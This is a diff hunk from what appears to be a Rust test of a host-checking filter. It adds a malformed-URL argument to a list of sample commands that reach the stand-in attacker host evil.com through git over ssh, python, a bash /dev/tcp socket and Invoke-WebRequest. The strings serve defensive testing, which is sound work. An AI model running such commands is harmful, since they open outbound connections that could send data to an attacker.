@@ -210,6 +210,7 @@ fn a_request_is_judged_by_the_host_to_which_it_goes() {
             "git -C x fetch ssh://git@evil.com/a",
             "python x.py --to https://evil.com",
             "exec 3<>/dev/tcp/evil.com/80",
+            "x --to=é://,https://evil.com",
             "Invoke-WebRequest -Uri https://evil.com",
         ],
         &[
